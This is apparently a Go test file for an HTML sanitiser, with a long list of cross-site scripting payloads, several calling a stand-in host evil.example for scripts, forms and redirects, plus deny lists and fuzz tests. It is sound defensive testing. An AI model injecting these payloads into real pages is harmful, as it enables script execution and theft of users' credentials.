package publish

import (
	"slices"
	"strings"
	"testing"

	xhtml "golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// attacks are ways to run a script, to load something unseen or to break out of the surrounding text.
var attacks = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script`, `<<script>alert(1)//<</script>`,
	`<img src=x onerror=alert(1)>`, `<img src="https://a.example/x.png" onerror="alert(1)">`,
	`<img/src=x/onerror=alert(1)>`, `<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href=" javascript:alert(1)">x</a>`, "<a href=\"java\tscript:alert(1)\">x</a>",
	`<a href="java&#10;script:alert(1)">x</a>`,
	`<a href="&#x6A;avascript:alert(1)">x</a>`, `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
	`<a href="vbscript:x">x</a>`, `<a href="//evil.example/">x</a>`, `<a href="https://u:p@a.example/">x</a>`,
	`<a href="feed:javascript:alert(1)">x</a>`, `<a href="https://a.example/" onclick="x()" style="position:fixed">x</a>`, `<a href='x' onmouseover='x'>`,
	`<iframe src="https://a.example/"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`,
	`<object data="x.swf"><embed src=x></object>`, `<embed src="javascript:alert(1)">`, `<applet code=x>`,
	`<form action="https://evil.example/"><input name=password><button formaction=x>go</button></form>`,
	`<base href="https://evil.example/">`, `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
	`<link rel=stylesheet href="https://evil.example/x.css">`, `<style>@import "https://evil.example/x.css";</style>`,
	`<p style="background:url(javascript:alert(1))">x</p>`, `<div style=behavior:url(x)>x</div>`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`, `<!-- --!><script>alert(1)</script>`,
	`<![CDATA[<script>alert(1)</script>]]>`, `<?xml version="1.0"?><script>x</script>`,
	`</p></div></body></html><script>x</script>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<textarea><script>x</script></textarea>`,
	`<title><script>x</script></title>`, `<xmp><script>x</script></xmp>`, `<plaintext><script>x`,
	`<noembed><img src=x onerror=x></noembed>`,
	`<template><script>x</script></template>`, `<select><option><script>x</script></select>`,
	`<table background="javascript:x"><tr><td background="javascript:x">x</table>`,
	`<video src=x onerror=x><source onerror=x></video>`, `<audio src=x onerror=x>`,
	`<details open ontoggle=alert(1)>x</details>`, `<marquee onstart=x>x</marquee>`, `<body onload=x>`,
	`<input onfocus=x autofocus>`, `<isindex type=image src=1 onerror=x>`, `<bgsound src="javascript:x">`,
	`<frameset onload=x>`,
	`<img src="https://a.example/p.gif" width="1" height="1">`, `<img src="https://a.example/p.gif" width=0>`,
	`<img src="https://pixel.wp.com/g.gif?x">`, `<img style="display: none" src="https://a.example/p.gif">`,
	`<img src="data:image/svg+xml,<svg onload=x>">`,
	`<b>unclosed`, `</b></b></p>`, `<p><table><p>foster</table>`, `<table><tr><b><td>x`,
	`<p><object><p>x</p></object></p>`, `<a href="https://a.example/"><a href="https://b.example/">nested</a></a>`,
	`<li>lonely`, `<td>cell`, `<q cite="javascript:x">x</q>`, `<blockquote cite="data:x">x</blockquote>`,
	"\x00<scr\x00ipt>alert(1)</scr\x00ipt>", "<img src=x\x0bonerror=x>", "\xff<script\xff>",
	"]]></summary><entry>", "<p lang='\"><script>x</script>'>x</p>", "<p dir='\"onload=x'>x</p>",
	`<p id=x name=y class=z>x</p>`, `<a href=mailto:a@b.example>x</a>`, `<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>`,
	"<pre>\n\n x</pre>", "<h1><h2>x", "<dl><dt>x<dd>y", "<ruby>x<rt>y</ruby>", "<nobr><nobr>x",
	"<font color=red><p>x</font>y",
	"<math><annotation-xml encoding='text/html'><style><img src=x onerror=x></style></annotation-xml></math>",
}

// forbidden elements and attributes, whatever allows them.
var (
	badElements = []string{
		"title", "noembed", "noframes", "marquee", "bgsound", "keygen", "portal", "fencedframe",
		"picture", "source", "track", "area", "map", "image", "listing", "script", "style", "iframe",
		"frame", "frameset", "object", "embed", "applet", "form", "input", "button", "svg", "math",
		"base", "meta", "link", "template", "noscript", "textarea", "select", "video", "audio",
		"plaintext", "xmp",
	}
	// and no others
	attributes = []string{
		"href", "src", "cite", "alt", "title", "datetime", "width", "height", "colspan", "rowspan",
		"start", "type", "dir", "lang",
	}
	urlAttributes = []string{"href", "src", "cite"}
)

// unsafe returns the part of a fragment a browser could run or load, or "". It parses it as a fragment
// and as a document.
func unsafe(fragment string) string {
	body := &xhtml.Node{Type: xhtml.ElementNode, Data: "body", DataAtom: atom.Body}
	nodes, err := xhtml.ParseFragment(strings.NewReader(fragment), body)
	if err != nil {
		return err.Error()
	}
	doc, err := xhtml.Parse(strings.NewReader(fragment))
	if err != nil {
		return err.Error()
	}
	for _, root := range append(nodes, doc) {
		for n := range root.Descendants() {
			if found := unsafeNode(n); found != "" {
				return found
			}
		}
		if found := unsafeNode(root); found != "" {
			return found
		}
	}
	return ""
}

func unsafeNode(n *xhtml.Node) string {
	if n.Type == xhtml.CommentNode {
		return "a comment"
	}
	if n.Type != xhtml.ElementNode {
		return ""
	}
	if slices.Contains(badElements, n.Data) || n.Namespace != "" {
		return "<" + n.Data + ">"
	}
	for _, a := range n.Attr {
		value := strings.ToLower(a.Val)
		ok := strings.HasPrefix(value, "http://") || strings.HasPrefix(value, "https://") ||
			strings.HasPrefix(value, "mailto:")
		if a.Namespace != "" || !slices.Contains(attributes, a.Key) || slices.Contains(urlAttributes, a.Key) && !ok {
			return n.Data + " " + a.Key + "=" + a.Val
		}
	}
	return ""
}

// balanced reports whether the parsed fragment prints with as many tags as it has.
func balanced(t tester, fragment string) {
	var open []string
	z := xhtml.NewTokenizer(strings.NewReader(fragment))
	for kind := z.Next(); kind != xhtml.ErrorToken; kind = z.Next() {
		name, _ := z.TagName()
		switch tag := string(name); {
		case kind == xhtml.StartTagToken && !slices.Contains([]string{"br", "hr", "img", "wbr"}, tag):
			open = append(open, tag)
		case kind == xhtml.EndTagToken && (len(open) == 0 || open[len(open)-1] != tag):
			t.Errorf("</%s> closes nothing in %q", tag, fragment)
			return
		case kind == xhtml.EndTagToken:
			open = open[:len(open)-1]
		}
	}
	if len(open) > 0 {
		t.Errorf("%v left open in %q", open, fragment)
	}
}

func holds(t tester, s *sanitiser, in string) {
	out := s.sanitise(in)
	if found := unsafe(out); found != "" {
		t.Errorf("%q leaves %s in %q", in, found, out)
	}
	if again := s.sanitise(out); again != out {
		t.Errorf("%q gives %q, and that %q", in, out, again)
	}
	if len(out) > 512+growth*len(in) {
		t.Errorf("%d bytes become %d", len(in), len(out))
	}
	if clean(out) != out {
		t.Errorf("%q leaves characters that XML forbids in %q", in, out)
	}
	balanced(t, out)
}

func TestS8_S9_Attacks(t *testing.T) {
	s := newSanitiser()
	for _, in := range attacks {
		holds(t, s, in)
	}
	for i, a := range attacks {
		holds(t, s, a+attacks[(i+7)%len(attacks)])
		holds(t, s, `<p title="`+a+`">`+a)
		holds(t, s, strings.ToUpper(a))
	}
}

func TestS8_TrackersGo(t *testing.T) {
	for _, in := range attacks {
		if out := newSanitiser().sanitise(in); strings.Contains(in, ".gif") && strings.Contains(out, "<img") {
			t.Errorf("%s leaves %s", in, out)
		}
	}
}

func TestS8_HarmlessStays(t *testing.T) {
	for _, in := range []string{
		`<p>plain</p>`, `<p><em>a</em> <strong>b</strong> <i>c</i></p>`,
		`<a href="https://a.example/?a=1&amp;b=2">x</a>`, `<a href="mailto:letters@a.example">x</a>`,
		`<ul><li>a</li><li>b</li></ul>`,
		`<ol start="3"><li>a</li></ol>`, `<blockquote cite="https://a.example/"><p>x</p></blockquote>`,
		`<p dir="rtl" lang="ur">دریا</p>`, `<img src="https://a.example/map.png" alt="a map" width="600" height="400"/>`,
		`<table><thead><tr><th colspan="2">h</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>`,
		`<figure><img src="https://a.example/i.jpg"/><figcaption>x</figcaption></figure>`,
		`<h2>x</h2><hr/><pre>a  b</pre>`, `a<br/>b`, `<sup>1</sup><sub>2</sub>`,
	} {
		if out := newSanitiser().sanitise(in); out != in {
			t.Errorf("%s became %s", in, out)
		}
	}
}

func TestS6_DeepNestingBecomesText(t *testing.T) {
	for _, in := range []string{
		strings.Repeat("<b>", 200_000) + "the text", strings.Repeat("<div>", 200_000) + "the text",
		strings.Repeat("<b><i><p>", 5_000) + "the text",
	} {
		if out := newSanitiser().sanitise(in); out != "the text" {
			t.Errorf("%.80q, %d bytes", out, len(out))
		}
	}
}

func FuzzSanitise(f *testing.F) {
	for _, in := range attacks {
		f.Add(in)
	}
	for _, p := range append(ours(f), snippets(f, "testdata/harmless.txt")...) {
		f.Add(p.HTML)
	}
	s := newSanitiser()
	f.Fuzz(func(t *testing.T, in string) {
		holds(t, s, in)
		holds(t, s, `<table><tr><td><p title="`+in+`">`+in+`</table><svg><style>`+in)
	})
}

// TestTitlesKeepDirection: a title with an open override does not turn the following text.
func TestTitlesKeepDirection(t *testing.T) {
	if got := line("Safe \u202etxet\u2066 x\u200f"); got != "Safe txet x\u200f" {
		t.Errorf("%q", got)
	}
}
